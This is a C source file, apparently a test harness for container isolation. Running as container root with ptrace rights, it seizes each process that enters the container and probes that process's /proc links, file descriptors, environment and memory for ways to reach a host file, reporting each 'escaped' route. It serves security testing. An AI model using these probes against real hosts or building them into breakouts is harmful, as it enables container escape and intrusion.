/*
 * catcher.c: what a container's root with CAP_SYS_PTRACE does to a process that comes in.
 *
 * `catcher FILE UNTIL`: stops each process that appears, and prints what it is worth: `caught`, its
 * capabilities, its user, its filter; the links of /proc/PID and of its threads; `read NAME` for each of
 * its files that could be read; and `escaped WAY` for each way through it by which FILE, a file of the
 * host's, can be read, or the name of FILE's folder. `tried PID` tells that all this is over, or that
 * the process couldn't be stopped. It ends when UNTIL is there.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

static void show_link(const char *path)
{
	char target[4096];
	ssize_t size = readlink(path, target, sizeof(target) - 1);

	if (size < 0)
		return;
	target[size] = '\0';
	printf("link %s %s\n", strchr(path + 6, '/') + 1, target);
}

static void try(const char *way, const char *file)
{
	static const char *up[] = { "", "/../../../../../../../../../../../../../../.." };

	for (int i = 0; i < 2; i++) {
		char path[8192];
		int fd;

		snprintf(path, sizeof(path), "%s%s%s", way, up[i], file);
		fd = open(path, O_RDONLY);
		if (fd < 0)
			continue;
		printf("escaped %s\n", strchr(way + 6, '/') + 1);
		close(fd);
		return;
	}
}

static void show_status(int pid)
{
	char path[64], line[512];
	FILE *status;

	snprintf(path, sizeof(path), "/proc/%d/status", pid);
	status = fopen(path, "r");
	while (status && fgets(line, sizeof(line), status))
		if (!strncmp(line, "Cap", 3) || !strncmp(line, "Uid", 3) || !strncmp(line, "Seccomp:", 8))
			fputs(line, stdout);
	if (status)
		fclose(status);
}

/* What is in its memory, and its environment: is there a word of the host's in it? */
static void search_memory(int pid, const char *word)
{
	char path[64], line[512], *memory;
	size_t length = strlen(word);
	FILE *maps;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	maps = fopen(path, "r");
	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDONLY);
	while (maps && fd >= 0 && fgets(line, sizeof(line), maps)) {
		unsigned long from, to;
		ssize_t size;

		if (sscanf(line, "%lx-%lx", &from, &to) != 2 || to - from > 1 << 26 || strstr(line, "[v"))
			continue;
		memory = malloc(to - from);
		size = pread(fd, memory, to - from, from);
		if (size > 0 && memmem(memory, size, word, length))
			printf("escaped memory\n");
		free(memory);
	}
	if (maps)
		fclose(maps);
	if (fd >= 0)
		close(fd);
}

/* Is a word of the host's in one of its files: its environment, its arguments? */
static void search_file(int pid, const char *name, const char *word)
{
	static char text[1 << 20];
	char path[512];
	size_t size = 0;
	ssize_t more;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return;
	while ((more = read(fd, text + size, sizeof(text) - size)) > 0)
		size += more;
	close(fd);
	printf("read %s\n", name);
	if (memmem(text, size, word, strlen(word)))
		printf("escaped %s\n", name);
}

/* Each entry of a folder: as a link, and a way to FILE; and with `word` as a file. */
static void look_into(int pid, const char *name, const char *file, const char *word)
{
	char path[1024], relative[512];
	struct dirent *entry;
	DIR *folder;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	folder = opendir(path);
	if (!folder)
		return;
	printf("read %s\n", name);
	while ((entry = readdir(folder))) {
		if (*entry->d_name == '.')
			continue;
		snprintf(relative, sizeof(relative), "%.200s/%s", name, entry->d_name);
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, relative);
		show_link(path);
		try(path, file);
		if (word)
			search_file(pid, relative, word);
	}
	closedir(folder);
}

static void try_links(int pid, const char *where, const char *file)
{
	static const char *names[] = { "exe", "cwd", "root" };
	char path[512];

	for (int i = 0; i < 3; i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s%s", pid, where, names[i]);
		show_link(path);
		try(path, file);
	}
}

/* The files of a process, or of one of its threads. */
static void search_files(int pid, const char *where, const char *word)
{
	static const char *names[] = { "environ", "cmdline", "comm", "maps", "stat", "auxv", "wchan" };
	char path[64];

	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		snprintf(path, sizeof(path), "%s%s", where, names[i]);
		search_file(pid, path, word);
	}
}

static void look(int pid, const char *file)
{
	char word[4096], where[64];
	struct dirent *entry;
	DIR *threads;

	*strrchr(strcpy(word, file), '/') = '\0'; /* a path of the host's */
	printf("caught\n");
	show_status(pid);
	try_links(pid, "", file);
	look_into(pid, "fd", file, NULL);
	look_into(pid, "map_files", file, NULL);
	look_into(pid, "ns", file, NULL);
	look_into(pid, "fdinfo", file, word);
	search_files(pid, "", word);
	snprintf(where, sizeof(where), "/proc/%d/task", pid);
	threads = opendir(where);
	while (threads && (entry = readdir(threads))) {
		if (*entry->d_name == '.')
			continue;
		snprintf(where, sizeof(where), "task/%.16s/", entry->d_name);
		try_links(pid, where, file);
		search_files(pid, where, word);
		snprintf(where, sizeof(where), "task/%.16s/fd", entry->d_name);
		look_into(pid, where, file, NULL);
	}
	if (threads)
		closedir(threads);
	search_memory(pid, word);
}

static void catch(int pid, const char *file)
{
	int status;

	if (ptrace(PTRACE_SEIZE, pid, 0, 0) || ptrace(PTRACE_INTERRUPT, pid, 0, 0))
		return;
	if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status)) /* or it has just ended */
		return;
	look(pid, file);
	ptrace(PTRACE_DETACH, pid, 0, 0);
}

int main(int count, char **words)
{
	static char seen[1 << 22];

	if (count != 3)
		return 2;
	seen[1] = seen[getpid()] = 1;
	printf("ready\n");
	fflush(stdout);
	while (access(words[2], F_OK)) {
		DIR *folder = opendir("/proc");
		struct dirent *entry;

		while (folder && (entry = readdir(folder))) {
			int pid = atoi(entry->d_name);

			if (pid <= 0 || seen[pid])
				continue;
			seen[pid] = 1;
			catch(pid, words[1]);
			printf("tried %d\n", pid);
			fflush(stdout);
		}
		closedir(folder);
	}
	return 0;
}
